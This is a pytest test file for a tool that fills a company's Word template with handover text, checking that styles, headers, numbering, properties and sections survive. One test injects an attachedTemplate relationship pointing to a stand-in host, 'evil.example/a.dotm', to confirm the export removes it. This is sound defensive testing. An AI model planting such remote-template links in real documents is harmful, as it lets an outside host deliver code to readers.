"""A company's own Word file: its look, page, header and footer stay, the text is ours."""

import re
from io import BytesIO
from pathlib import Path
from typing import Any

import docx
import pytest
from attrs import evolve
from docx.enum.style import WD_STYLE_TYPE
from hypothesis import given, settings
from lxml import etree
from tests.exporters.word.opened import Opened, item, opened, page_of, para, value
from tests.exporters.word.samples import rich_page
from tests.exporters.word.templates import (
    COVER,
    FOOTER,
    HEADER,
    LAST,
    MARK,
    SAMPLE,
    Change,
    entry,
    landscape_in_columns,
    picture,
    rewritten,
    template,
    with_chinese_ids,
    with_chinese_text,
    with_cover,
    without_styles,
    written,
)
from tests.support.docx_lint import W, lint
from tests.support.examples import READY
from tests.support.office import plain, printed, saved_again
from tests.support.pages import pages, texts_in

import opshandover as oh
from opshandover.errors import OptionError
from opshandover.exporters.word.render import render
from opshandover.ooxml.xml import visible
from opshandover.pages.blocks import Block, Heading, ListBlock, Page, Paragraph, Role, Run
from opshandover.text import LANGUAGES

HEADINGS = tuple(f"heading {level}" for level in range(1, 7))
QUOTES = str.maketrans("", "", "“”")
"""Where they come from another font they are printed before or after the rest of their line."""
CUSTOM = (
    '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"'
    ' xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
    '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="7" name="密级">'
    "<vt:lpwstr>内部</vt:lpwstr></property></Properties>"
)


@pytest.fixture(scope="module")
def plain_template() -> bytes:
    """Gives a template without changes."""
    return template()


def made(folder: Path, data: bytes, page: Page | None = None) -> Opened:
    """Writes a page into a template, and opens the file, which must be sound."""
    result = render(page or rich_page(), company_file=written(folder, data))
    assert lint(result) == []
    return opened(result)


def definition_of(file: Opened, number: str) -> Any:
    """Gives the definition of the numbering that a paragraph or a style refers to."""
    (bound,) = (e for e in file.find("./w:num", "word/numbering.xml") if value(e, "numId") == number)
    definition = value(bound.find(f"{W}abstractNumId"))
    (abstract,) = (
        e for e in file.find("./w:abstractNum", "word/numbering.xml") if value(e, "abstractNumId") == definition
    )
    return abstract


def styles_of(file: Opened) -> dict[str, str]:
    """Gives the names of a file's styles by their ids."""
    found = file.find("./w:style", "word/styles.xml")
    return {value(style, "styleId"): value(style.find(f"{W}name")) for style in found}


def used_styles(file: Opened) -> set[str]:
    """Gives the ids of all styles that the text names."""
    names = ("pStyle", "rStyle", "tblStyle")
    return {value(each) for name in names for each in file.find(f".//w:{name}")}


def headers_in(file: Opened) -> str:
    """Gives the text of all headers and footers."""
    names = [name for name in file.parts if re.match(r"word/(header|footer)\d*\.xml$", name)]
    return "".join(file.text(name) for name in names)


def test_the_text_is_ours_and_what_stands_around_it_is_theirs(tmp_path: Path, plain_template: bytes) -> None:
    """The sample goes with its pictures; header, logo, footer and page stay."""
    file = made(tmp_path, plain_template)
    assert "支付回调延迟" in file.text()
    assert SAMPLE not in file.text()
    assert HEADER in headers_in(file)
    assert FOOTER in headers_in(file)
    (logo,) = (name for name in file.parts if name.startswith("word/media/"))
    assert file.parts[logo] == picture()
    assert b"graphic" not in file.parts["word/document.xml"]
    (theirs,) = etree.fromstring(entry(plain_template, "word/document.xml")).iter(f"{W}sectPr")
    (ours,) = file.find(".//w:sectPr")
    assert [value(ours.find(f"{W}pgMar"), side) for side in ("left", "top")] == [
        value(theirs.find(f"{W}pgMar"), side) for side in ("left", "top")
    ]


def test_their_parts_stay_as_they_are(tmp_path: Path, plain_template: bytes) -> None:
    """Theme, fonts and defaults are the company's, and so is every style that it has."""
    file = made(tmp_path, plain_template)
    for name in ("word/theme/theme1.xml", "word/fontTable.xml", "word/header1.xml"):
        assert file.parts[name] == entry(plain_template, name)
    theirs = etree.fromstring(entry(plain_template, "word/styles.xml"))
    ours = file.root("word/styles.xml")
    for old, new in zip(theirs, ours[: len(theirs)], strict=True):
        assert etree.tostring(old, method="c14n") == etree.tostring(new, method="c14n")


def test_every_style_that_the_text_names_is_there(tmp_path: Path, plain_template: bytes) -> None:
    """Ours are added under their names once; none comes twice."""
    file = made(tmp_path, plain_template)
    styles = styles_of(file)
    assert used_styles(file) <= set(styles)
    assert len({name.casefold() for name in styles.values()}) == len(styles)
    assert {"Things", "Table Text", "Box"} <= set(styles.values())


def test_styles_are_found_by_name_and_not_by_id(tmp_path: Path) -> None:
    """Word in Chinese calls the first heading `1`; what we add is based on its ids."""
    file = made(tmp_path, template(with_chinese_ids))
    styles = styles_of(file)
    assert styles["1"] == "heading 1"
    assert "1" in used_styles(file)
    assert list(styles.values()).count("heading 1") == 1
    for style in file.find("./w:style", "word/styles.xml"):
        for name in ("basedOn", "next", "link"):
            named = style.find(f"{W}{name}")
            assert named is None or value(named) in styles
    added = next(key for key, name in styles.items() if name == "Table Text")
    (text,) = (s for s in file.find("./w:style", "word/styles.xml") if value(s, "styleId") == added)
    assert value(text.find(f"{W}basedOn")) == "a"


def test_an_id_or_a_name_that_is_taken_is_left_alone(tmp_path: Path) -> None:
    """Another style under our id keeps it; a style of another kind keeps its name."""

    def change(document: object) -> None:
        assert isinstance(document, docx.document.Document)
        document.styles.add_style("Their Box", WD_STYLE_TYPE.TABLE)
        document.styles["Their Box"].element.set(f"{W}styleId", "Things")
        document.styles.add_style("Code", WD_STYLE_TYPE.CHARACTER)

    styles = styles_of(made(tmp_path, template(change)))
    assert styles["Things"] == "Their Box"
    assert styles["Things2"] == "Things"
    assert styles["Code"] == "Code"
    assert styles["Code2"] == "opshandover Code"


def test_what_is_added_takes_their_fonts(tmp_path: Path, plain_template: bytes) -> None:
    """A style of ours names only fonts that are its own, such as that of code."""
    file = made(tmp_path, plain_template)
    by_name = {value(s.find(f"{W}name")): s for s in file.find("./w:style", "word/styles.xml")}
    assert by_name["Table Text"].find(f"{W}rPr/{W}rFonts") is None
    assert value(by_name["Code"].find(f"{W}rPr/{W}rFonts"), "ascii") == "Consolas"


def test_what_is_added_is_in_their_colour(tmp_path: Path, plain_template: bytes) -> None:
    """The first accent of the company's theme stands in the place of ours."""
    name = "word/theme/theme1.xml"
    theme = re.sub(rb'(<a:accent1>\s*<a:srgbClr val=")\w{6}', rb"\g<1>7A1F1F", entry(plain_template, name))
    file = made(tmp_path, rewritten(plain_template, {name: theme}))
    by_name = {value(s.find(f"{W}name")): s for s in file.find("./w:style", "word/styles.xml")}
    assert value(by_name["Table Head"].find(f"{W}rPr/{W}color")) == "7A1F1F"


def test_text_of_a_chinese_company_does_not_bend_ours(tmp_path: Path) -> None:
    """An indented first line is for text, and not for cells of tables or items of lists."""
    page = page_of(para("正文"), ListBlock(items=(item("一"),)))
    file = made(tmp_path, template(with_chinese_text, without_styles("Body Text")), page)
    by_name = {value(s.find(f"{W}name")): s for s in file.find("./w:style", "word/styles.xml")}
    indented = by_name["Table Text"].find(f"{W}pPr/{W}ind")
    assert (value(indented, "firstLineChars"), value(indented, "firstLine")) == ("0", "0")
    assert value(by_name["Table Text"].find(f"{W}pPr/{W}jc")) == "left"
    assert value(by_name["Table Text"].find(f"{W}pPr/{W}spacing"), "beforeLines") == "0"
    text, listed = file.find("./w:body/w:p")[-2:]
    assert text.find(f"{W}pPr/{W}ind") is None
    assert styles_of(file)[value(text.find(f"{W}pPr/{W}pStyle"))] == "Normal"
    assert value(listed.find(f"{W}pPr/{W}ind"), "firstLineChars") == "0"


@pytest.mark.parametrize(
    ("change", "width"),
    [(landscape_in_columns, (15840 - 3600 - 600) // 2), (with_cover, 11906 - 3600)],
)
def test_tables_are_as_wide_as_their_page(tmp_path: Path, change: Change, width: int) -> None:
    """The widths follow paper, margins and columns of the section that the text stands in."""
    widths = {
        int(value(table.find(f"{W}tblPr/{W}tblW"), "w"))
        for table in made(tmp_path, template(change)).find("./w:body/w:tbl")
    }
    assert widths == {width}


def test_a_cover_stays_before_the_text_and_a_remark_after_it(tmp_path: Path) -> None:
    """What stands round the mark is kept, with its section, and the mark is not printed."""
    file = made(tmp_path, template(with_cover))
    text = file.text()
    assert text.index(COVER) < text.index("支付回调延迟") < text.index(LAST)
    assert "{{" not in text
    assert len(file.find(".//w:sectPr")) == 2


def test_a_mark_that_ends_a_section_still_ends_it(tmp_path: Path) -> None:
    """The settings of a section stand in its last paragraph, which may be the mark's."""

    def change(document: object) -> None:
        assert isinstance(document, docx.document.Document)
        document.paragraphs[0].text = MARK
        document.add_section()
        document.element.body.remove(document.paragraphs[1]._p)
        (section,) = document.element.body.findall(f".//{W}p/{W}pPr/{W}sectPr")
        properties = document.paragraphs[0]._p.get_or_add_pPr()
        old = section.getparent().getparent()
        properties.append(section)
        old.getparent().remove(old)

    file = made(tmp_path, template(change))
    assert len(file.find(".//w:sectPr")) == 2
    (ending,) = file.find("./w:body/w:p/w:pPr/w:sectPr")
    assert "".join(ending.getparent().getparent().itertext()) == ""


def _twice(document: object) -> None:
    assert isinstance(document, docx.document.Document)
    document.add_paragraph(MARK)
    document.add_paragraph(MARK)


def _in_a_cell(document: object) -> None:
    assert isinstance(document, docx.document.Document)
    document.add_table(1, 1).cell(0, 0).text = MARK


def _in_a_sentence(document: object) -> None:
    assert isinstance(document, docx.document.Document)
    document.add_paragraph(f"内容：{MARK}")


@pytest.mark.parametrize("change", [_twice, _in_a_cell, _in_a_sentence])
def test_a_mark_that_cannot_be_followed_is_refused(tmp_path: Path, change: Change) -> None:
    """Two marks, or one in a table or a sentence: the message says where it belongs."""
    with pytest.raises(OptionError, match="not in a paragraph of its own"):
        made(tmp_path, template(change))


def test_headers_of_the_section_before_are_taken_over(tmp_path: Path) -> None:
    """The last section has no header of its own where it goes on with that of the one before."""

    def change(document: object) -> None:
        assert isinstance(document, docx.document.Document)
        document.add_section()

    file = made(tmp_path, template(change))
    (section,) = file.find(".//w:sectPr")
    assert [etree.QName(e).localname for e in section[:2]] == ["headerReference", "footerReference"]


def test_their_numberings_stay_and_ours_follow(tmp_path: Path, plain_template: bytes) -> None:
    """Lists of ours have ids after theirs, each leading to a definition of ours."""
    file = made(tmp_path, plain_template)
    theirs = etree.fromstring(entry(plain_template, "word/numbering.xml"))
    last = max(int(value(e, "numId")) for e in theirs.findall(f"{W}num"))
    definitions = {value(e, "abstractNumId") for e in file.find("./w:abstractNum", "word/numbering.xml")}
    numbers = file.find("./w:num", "word/numbering.xml")
    assert {value(e.find(f"{W}abstractNumId")) for e in numbers} <= definitions
    ids = [int(value(e, "numId")) for e in numbers]
    assert len(ids) == len(set(ids))
    used = {int(value(e)) for e in file.find(".//w:numPr/w:numId")}
    assert used <= set(ids)
    assert min(used) > last
    root = file.root("word/numbering.xml")
    assert [etree.QName(e).localname for e in root] == sorted(etree.QName(e).localname for e in root)


def test_headings_of_theirs_are_not_numbered(tmp_path: Path, plain_template: bytes) -> None:
    """Their look wins: headings without numbers stay so."""
    file = made(tmp_path, plain_template)
    for style in file.find("./w:style", "word/styles.xml"):
        if value(style.find(f"{W}name")).startswith("heading"):
            assert style.find(f"{W}pPr/{W}numPr") is None
    assert b"Heading1" not in file.parts["word/numbering.xml"]


def test_headings_of_ours_are_numbered(tmp_path: Path) -> None:
    """A file without any headings gets ours, which count."""
    change = without_styles(*(f"Heading {level}" for level in range(1, 10)))
    file = made(tmp_path, template(change))
    (first,) = (
        style for style in file.find("./w:style", "word/styles.xml") if value(style.find(f"{W}name")) == "heading 1"
    )
    number = value(first.find(f"{W}pPr/{W}numPr/{W}numId"))
    abstract = definition_of(file, number)
    assert value(abstract.find(f"{W}lvl/{W}pStyle")) == value(first, "styleId")


def test_contents_show_no_numbers_that_are_not_there(tmp_path: Path, plain_template: bytes) -> None:
    """Where headings do not count, neither do their entries in the table of contents."""
    document = oh.OpsDocument(profile="daily_handover", title="交接")
    path = written(tmp_path, plain_template)
    counted = opened(oh.export(document, "word", contents=True)).text()
    bare = opened(oh.export(document, "word", contents=True, template=path, refresh=True))
    assert "一、" in counted
    assert "一、" not in bare.text()
    assert len(bare.find("./w:updateFields", "word/settings.xml")) == 1


def test_a_dotx_becomes_a_document(tmp_path: Path, plain_template: bytes) -> None:
    """The main part of a template for Word has another type, which would open a copy of it."""
    types = entry(plain_template, "[Content_Types].xml")
    dotx = rewritten(
        plain_template,
        {"[Content_Types].xml": types.replace(b"document.main+xml", b"template.main+xml")},
    )
    types = made(tmp_path, dotx).parts["[Content_Types].xml"]
    assert b"document.main+xml" in types
    assert b"template.main+xml" not in types


def test_pictures_of_both_have_their_own_names(tmp_path: Path, plain_template: bytes) -> None:
    """Both are called image1.png at home; none may take the other's place."""
    (tmp_path / "a.png").write_bytes(b"\x89PNG" + picture()[4:])
    document = _document("![图](a.png)")
    path = written(tmp_path, plain_template)
    data = oh.export(document, "word", template=path, folder=str(tmp_path))
    assert lint(data) == []
    media = [name for name in opened(data).parts if name.startswith("word/media/")]
    assert len(media) == 2


def _document(text: str) -> oh.OpsDocument:
    return oh.loads(
        f"schema_version: 1\nprofile: daily_handover\ntitle: 交接\nextra:\n  - title: 图\n    body: '{text}'\n",
        format="yaml",
    )


def test_properties_of_both_are_there(tmp_path: Path, plain_template: bytes) -> None:
    """The company's own properties stay beside those that tell of the baseline."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/custom-properties"
    relation = f'<Relationship Id="rId99" Type="{kind}" Target="docProps/custom.xml"/>'
    types, rels = (entry(plain_template, n) for n in ("[Content_Types].xml", "_rels/.rels"))
    override = (
        '<Override PartName="/docProps/custom.xml"'
        ' ContentType="application/vnd.openxmlformats-officedocument.custom-properties+xml"/>'
    )
    data = rewritten(
        plain_template,
        {
            "docProps/custom.xml": CUSTOM.encode(),
            "[Content_Types].xml": types.replace(b"</Types>", override.encode() + b"</Types>"),
            "_rels/.rels": rels.replace(b"</Rel", relation.encode() + b"</Rel"),
        },
    )
    result = oh.export(_document("文"), "word", template=written(tmp_path, data))
    assert lint(result) == []
    properties = opened(result).root("docProps/custom.xml")
    names = [each.get("name") for each in properties]
    assert names[0] == "密级"
    assert "opshandover.sha256" in names
    assert [int(each.get("pid")) for each in properties] == list(range(2, 2 + len(names)))


def test_custom_xml_gets_the_properties_that_it_lacks(tmp_path: Path, plain_template: bytes) -> None:
    """One part without, and LibreOffice loses them all, the baseline too."""
    data = rewritten(plain_template, {"customXml/_rels/item1.xml.rels": None})
    result = oh.export(_document("文"), "word", template=written(tmp_path, data))
    assert lint(result) == []
    assert {"customXml/item1.xml", "customXml/item2.xml"} <= set(opened(result).parts)


def test_a_file_of_ours_serves_as_well(tmp_path: Path) -> None:
    """Whoever changes the look of an export and gives it again carries no old document along."""
    before = evolve(_document("昨天"), id="HO-1")
    path = written(tmp_path, oh.export(before, "word"))
    result = oh.export(_document("今天"), "word", template=path)
    assert lint(result) == []
    file = opened(result)
    assert "昨天" not in b"".join(file.parts.values()).decode(errors="replace")
    assert "opshandover.id" not in file.parts["docProps/custom.xml"].decode()
    assert len([name for name in file.parts if re.match(r"customXml/item\d+\.xml$", name)]) == 1
    names = list(styles_of(file).values())
    assert len(names) == len(set(names))


def test_what_is_kept_of_an_export_is_but_text(tmp_path: Path) -> None:
    """A mark behind an earlier export keeps its words, not the signs by which they are read back."""
    document = oh.load(READY)
    earlier = docx.Document(BytesIO(oh.export(document, "word")))
    earlier.add_paragraph(MARK)
    stored = BytesIO()
    earlier.save(stored)
    result = oh.export(document, "word", template=written(tmp_path, stored.getvalue()))
    assert lint(result) == []
    file, fresh = opened(result), opened(oh.export(document, "word"))
    for found, name in ((".//w:tag", "val"), (".//w:bookmarkStart", "name")):
        once = [value(each, name) for each in fresh.find(found)]
        assert [value(each, name) for each in file.find(found)] == once
        assert len(once) > 20
    assert file.text().count("沈一鸣") == 2 * fresh.text().count("沈一鸣") > 0


def test_a_bare_file_gets_what_it_lacks(tmp_path: Path) -> None:
    """No styles, no numbering, no settings, no size of the page: ours stand in for them."""
    name = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    body = f'<w:document xmlns:w="{name[1:-1]}"><w:body><w:p/></w:body></w:document>'
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    bare = {
        "word/document.xml": body.encode(),
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{relations}"/>'.encode(),
    }
    file = made(tmp_path, rewritten(template(), bare))
    assert {"word/styles.xml", "word/numbering.xml", "word/settings.xml"} & set(file.parts) == set()
    (section,) = file.find(".//w:sectPr")
    assert value(section.find(f"{W}pgSz"), "w") == "11906"


def test_notes_of_the_sample_go_with_it(tmp_path: Path, plain_template: bytes) -> None:
    """A note that nothing refers to would travel on unseen."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"
    rels, types = "word/_rels/document.xml.rels", "[Content_Types].xml"
    notes = (
        f'<w:footnotes xmlns:w="{W[1:-1]}"><w:footnote w:type="separator" w:id="-1"><w:p/>'
        '</w:footnote><w:footnote w:id="1"><w:p><w:r><w:t>旧注</w:t></w:r></w:p></w:footnote>'
        "</w:footnotes>"
    )
    relation = f'<Relationship Id="rId99" Type="{kind}" Target="footnotes.xml"/></Rel'
    override = (
        '<Override PartName="/word/footnotes.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.footnotes+xml"/></Types>'
    )
    data = rewritten(
        plain_template,
        {
            "word/footnotes.xml": notes.encode(),
            rels: entry(plain_template, rels).replace(b"</Rel", relation.encode()),
            types: entry(plain_template, types).replace(b"</Types>", override.encode()),
        },
    )
    notes_left = made(tmp_path, data).find("./w:footnote", "word/footnotes.xml")
    assert [value(note, "id") for note in notes_left] == ["-1"]


def test_ids_of_both_differ(tmp_path: Path) -> None:
    """A bookmark, a control or a drawing of the cover has an id that ours are counted from."""

    def change(document: object) -> None:
        assert isinstance(document, docx.document.Document)
        with_cover(document)
        first = document.paragraphs[0]._p
        for name, attributes in (("Start", {"name": "cover"}), ("End", {})):
            mark = etree.SubElement(first, f"{W}bookmark{name}")
            for key, text in ({"id": "3"} | attributes).items():
                mark.set(f"{W}{key}", text)

    page = page_of(*(Heading(level=1, text=f"第{n}", path=f"section_{n}") for n in range(4)))
    file = made(tmp_path, template(change), page)
    starts = [value(e, "id") for e in file.find(".//w:bookmarkStart")]
    assert len(starts) == len(set(starts)) == 5


def test_what_leads_to_other_files_goes(tmp_path: Path, plain_template: bytes) -> None:
    """A template of the template would be fetched whenever the document is opened."""
    name = "word/settings.xml"
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{kind}" Target="https://evil.example/a.dotm"'
        ' TargetMode="External"/></Relationships>'
    )
    attached = (
        '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships" r:id="rId1"/>'
    )
    settings = re.sub(rb"(<w:settings[^>]*>)", rb"\1" + attached.encode(), entry(plain_template, name))
    file = made(
        tmp_path,
        rewritten(plain_template, {name: settings, "word/_rels/settings.xml.rels": rels.encode()}),
    )
    assert all(b"evil.example" not in part for part in file.parts.values())


def test_equal_input_gives_equal_bytes(tmp_path: Path, plain_template: bytes) -> None:
    """No clock and no chance, with a template as without."""
    path = written(tmp_path, plain_template)
    assert render(rich_page(), company_file=path) == render(rich_page(), company_file=path)


@pytest.mark.parametrize(("name", "given"), [("theme", "formal"), ("paper", "letter"), ("colour", "7A1F1F")])
def test_options_that_the_template_decides_are_refused(name: str, given: str) -> None:
    """They would be without effect, so the message names both."""
    with pytest.raises(OptionError) as caught:
        oh.export(_document("文"), "word", path=None, lang="zh", template="company.docx", **{name: given})
    for lang in LANGUAGES:
        assert name in caught.value.in_lang(lang)
        assert "template" in caught.value.in_lang(lang)


@settings(max_examples=12)
@given(page=pages())
def test_every_text_is_there(tmp_path: Path, plain_template: bytes, page: Page) -> None:
    """Nothing is dropped or moved, whatever the page holds."""
    text = made(tmp_path, plain_template, page).text()
    place = 0
    for wanted in map(visible, texts_in(page)):
        found = text.find(wanted, place)
        assert found >= 0, wanted
        place = found + len(wanted)


def test_an_aside_is_taken_out_of_their_numbering(tmp_path: Path, plain_template: bytes) -> None:
    """A heading that is no section has a numbering without numbers, among theirs as well."""
    aside: tuple[Block, ...] = (Heading(level=1, text="先看", role=Role.ATTENTION),)
    file = made(tmp_path, plain_template, page_of(*aside))
    heading = file.find("./w:body/w:p")[-1]
    number = value(heading.find(f"{W}pPr/{W}numPr/{W}numId"))
    abstract = definition_of(file, number)
    assert value(abstract.find(f"{W}lvl/{W}numFmt")) == "none"


def test_links_do_not_take_ids_of_theirs(tmp_path: Path) -> None:
    """A link of ours and a picture of the cover are told apart."""

    def change(document: object) -> None:
        assert isinstance(document, docx.document.Document)
        document.add_paragraph(MARK)

    link = Paragraph(runs=(Run(text="看板", link="https://example.com/board"),))
    file = made(tmp_path, template(change), page_of(link))
    assert "https://example.com/board" in file.parts["word/_rels/document.xml.rels"].decode()
    assert SAMPLE in file.text()
    assert b"a:blip" in file.parts["word/document.xml"]


@pytest.mark.office
@pytest.mark.parametrize("change", [with_cover, with_chinese_ids])
def test_every_text_is_printed(tmp_path: Path, change: Change) -> None:
    """LibreOffice shows all of it, in the fonts and between the margins of the template."""
    page = rich_page()
    docx_file = render(page, company_file=written(tmp_path, template(change)))
    shown = printed(docx_file, tmp_path).translate(QUOTES)
    wanted = (plain(text).translate(QUOTES) for text in texts_in(page))
    assert [text for text in wanted if text not in shown] == []


@pytest.mark.office
def test_a_template_saved_by_libreoffice_serves(tmp_path: Path, plain_template: bytes) -> None:
    """It writes styles, numberings and settings in its own way."""
    file = made(tmp_path, saved_again(plain_template, tmp_path))
    assert HEADER in headers_in(file)
    names = [name.casefold() for name in styles_of(file).values()]
    assert names.count("heading 1") == 1
